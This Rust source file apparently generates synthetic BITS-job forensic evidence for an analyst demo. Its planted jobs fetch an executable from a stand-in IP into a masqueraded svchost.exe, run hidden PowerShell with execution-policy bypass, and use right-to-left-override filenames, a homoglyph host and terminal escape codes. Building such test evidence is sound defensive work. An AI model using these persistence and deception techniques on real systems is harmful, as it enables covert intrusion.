//! The jobs of the demo evidence: who they belong to and what each one shows an analyst.
//!
//! Addresses are documentation ones only (RFC 5737 ranges, `example.*` domains); the ordinary
//! updater jobs come from the generator's own job kinds (Chrome, Firefox, Edge, Office,
//! Outlook), so they look like what a real queue holds around a planted job.

use crate::gen::blobs::{
    random_job_is_updater, FileSpec, JobExtras, JobSpec, JobWithFiles, Machine, DOWNLOAD_MARKER,
    FT_2022, FT_DAY, FT_SECOND,
};
use crate::gen::rng::Rng;
use crate::gen::GenError;

/// When the demo's databases were copied: 2026-03-12T14:27:09Z.
pub const NOW: u64 = FT_2022 + 1531 * FT_DAY + (14 * 3600 + 27 * 60 + 9) * FT_SECOND;

/// The workstation: its one user, `m.keller`, owns the persistence job.
pub fn workstation() -> Machine {
    Machine {
        domain_sid: "S-1-5-21-2318473921-1630741855-3304761102".into(),
        users: vec![("m.keller".into(), 1104)],
        volume: r"\\?\Volume{6d2f0e4a-91c3-4b7e-a8f1-3c5d7e9b2a41}\".into(),
        volume_serial: 0x5A3C_91E2,
        guid: [
            0x3b, 0x8e, 0x1f, 0x92, 0x6a, 0x0c, 0x4d, 0x4b, 0x9e, 0x51, 0x27, 0xc8, 0x0d, 0x6f,
            0x3a, 0xb4,
        ],
        now: NOW,
    }
}

/// The file server: an administrator account and SYSTEM.
pub fn server() -> Machine {
    Machine {
        domain_sid: "S-1-5-21-3902761155-2741038862-1187520043".into(),
        users: vec![("svc.backup".into(), 1107)],
        volume: r"\\?\Volume{b1e4c7d2-5f08-4a93-9c6e-0f2a8d4b7c15}\".into(),
        volume_serial: 0x1C07_E4B9,
        guid: [
            0xc4, 0x27, 0x5e, 0x0b, 0x93, 0x1d, 0x48, 0x4f, 0x86, 0x3a, 0xd1, 0x5f, 0x70, 0x2e,
            0x9c, 0x61,
        ],
        now: NOW,
    }
}

/// A job with nothing set but its identity, owner and times (`age`: how long before
/// [`NOW`] it was created), for the planted jobs to fill in.
fn base_job(rng: &mut Rng, m: &Machine, owner_sid: String, age: u64) -> JobSpec {
    let created = NOW - age;
    let modified = created + 95 * FT_SECOND;
    JobSpec {
        marker: DOWNLOAD_MARKER,
        job_type: 0,
        priority: 2,
        state: 1,
        id: rng.guid(),
        name: String::new(),
        description: String::new(),
        notify_command: String::new(),
        notify_arguments: String::new(),
        owner_sid,
        notify_flags: 3,
        security_word: rng.next_u32(),
        file_ids: Vec::new(),
        errors: Vec::new(),
        transient_errors: 0,
        retry_delay: 600,
        no_progress_timeout: 1_209_600,
        created,
        modified,
        completed: 0,
        notified: 0,
        expiration: modified + 90 * FT_DAY,
        max_download_time: 7_776_000,
        cost_flags: 0x8000_0065,
        machine_guid: m.guid,
        client_path: String::new(),
        http_method: "GET".into(),
        extras: JobExtras::default(),
    }
}

/// Give `job` one file: `url` to `destination`, `done` of `size` bytes received.
fn with_file(
    rng: &mut Rng,
    m: &Machine,
    mut job: JobSpec,
    url: &str,
    destination: &str,
    done: u64,
    size: u64,
) -> JobWithFiles {
    let dir = destination.rsplit_once('\\').map_or("", |(d, _)| d);
    let file = FileSpec {
        id: rng.guid(),
        destination: destination.into(),
        url: url.into(),
        temp_path: format!(r"{dir}\BIT{:04X}.tmp", rng.below(0x10000)),
        bytes_transferred: done,
        total_bytes: size,
        drive: r"C:\".into(),
        volume: m.volume.clone(),
        volume_serial: m.volume_serial,
        remote_mtime: job.created.saturating_sub(3 * FT_DAY),
    };
    job.file_ids.push(file.id);
    JobWithFiles {
        job,
        files: vec![file],
    }
}

/// The T1197 persistence job: BITS fetches an executable from a raw IP on an odd port and
/// runs it as the notify command when the job completes or errors (BITS retries every ten
/// minutes meanwhile).
pub fn persistence(rng: &mut Rng, m: &Machine) -> JobWithFiles {
    let sid = format!("{}-1104", m.domain_sid);
    let mut job = base_job(rng, m, sid, 9 * FT_DAY + 4_231 * FT_SECOND);
    job.name = "Windows Update Helper".into();
    job.description = "Keeps helper components up to date".into();
    job.notify_command = r"C:\Users\Public\Libraries\svchost.exe".into();
    job.notify_arguments = "-k netsvcs -p -s UpdateHelper".into();
    job.notify_flags = 0x0b;
    // Transient error: the server is not answering (yet); BITS keeps retrying.
    job.state = 5;
    job.transient_errors = 7;
    job.retry_delay = 600;
    job.client_path = r"C:\Users\Public\Libraries\svchost.exe".into();
    with_file(
        rng,
        m,
        job,
        "http://203.0.113.7:8080/update.exe",
        r"C:\Users\Public\Libraries\svchost.exe",
        0,
        u64::MAX,
    )
}

/// The jobs deleted from the workstation's queue, left in free space for the carver: the
/// attacker's first stage, a test download, and an ordinary finished font update.
pub fn deleted(rng: &mut Rng, m: &Machine) -> Vec<JobWithFiles> {
    let user = format!("{}-1104", m.domain_sid);
    let mut stage = base_job(rng, m, user.clone(), 11 * FT_DAY + 600 * FT_SECOND);
    stage.name = "Windows Update Helper".into();
    stage.notify_command = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe".into();
    stage.notify_arguments =
        r"-nop -w hidden -ep bypass -f C:\Users\Public\Libraries\stage1.ps1".into();
    stage.notify_flags = 0x0b;
    stage.state = 6;
    stage.completed = stage.modified;
    let stage = with_file(
        rng,
        m,
        stage,
        "http://198.51.100.23:8443/stage1.ps1",
        r"C:\Users\Public\Libraries\stage1.ps1",
        4_182,
        4_182,
    );
    let mut probe = base_job(rng, m, user, 10 * FT_DAY + 7_200 * FT_SECOND);
    probe.name = "test".into();
    probe.state = 6;
    probe.completed = probe.modified;
    let probe = with_file(
        rng,
        m,
        probe,
        "http://192.0.2.44/check.txt",
        r"C:\Users\m.keller\AppData\Local\Temp\check.txt",
        12,
        12,
    );
    let mut fonts = base_job(rng, m, "S-1-5-18".into(), 20 * FT_DAY);
    fonts.name = "Font Cache Update".into();
    fonts.state = 7;
    fonts.completed = fonts.modified;
    fonts.client_path = r"C:\Windows\System32\svchost.exe".into();
    let fonts = with_file(
        rng,
        m,
        fonts,
        "https://fonts.example.com/cache/fontcache-2026.02.cab",
        r"C:\Windows\ServiceProfiles\LocalService\AppData\Local\FontCache\fontcache-2026.02.cab",
        812_544,
        812_544,
    );
    vec![stage, probe, fonts]
}

/// Text that tries to fool a terminal or a reader: a right-to-left override in the file name
/// (`invoice_\u{202E}fdp.exe` shows as `invoice_exe.pdf`), a zero-width space in the name, an escape
/// sequence that would clear the screen in the description, and a host with a Cyrillic `а`
/// (U+0430) in a Latin word.
pub fn hostile_text(rng: &mut Rng, m: &Machine) -> JobWithFiles {
    let sid = format!("{}-1107", m.domain_sid);
    let mut job = base_job(rng, m, sid, 2 * FT_DAY + 3_100 * FT_SECOND);
    job.name = "Backup\u{200B}Agent".into();
    job.description = "Nightly sync \u{1b}[2J\u{1b}[31mOK\u{1b}[0m".into();
    job.state = 6;
    job.completed = job.modified;
    job.client_path = r"C:\Program Files\BackupAgent\agent.exe".into();
    with_file(
        rng,
        m,
        job,
        "https://upd\u{430}te.example.org/files/invoice.exe",
        "C:\\Users\\Public\\Documents\\invoice_\u{202E}fdp.exe",
        48_128,
        48_128,
    )
}

/// `n` ordinary updater jobs of `m`, one file each: the generator's stock kinds, not its
/// planted ones, drawn in turn (the others drawn are dropped). The kinds are weighted so
/// that about two draws in three are stock; 64 draws per job not giving `n` would be a
/// broken generator, an error rather than a shorter queue.
pub fn ordinary(rng: &mut Rng, m: &Machine, n: usize) -> Result<Vec<JobWithFiles>, GenError> {
    let mut out = Vec::with_capacity(n);
    let mut draws = 0;
    while out.len() < n {
        if draws == 64 * n {
            return Err(GenError::Internal(format!(
                "{} ordinary jobs in {draws} draws, not {n}",
                out.len()
            )));
        }
        draws += 1;
        let (updater, j) = random_job_is_updater(rng, m, 1);
        if updater {
            out.push(j);
        }
    }
    Ok(out)
}
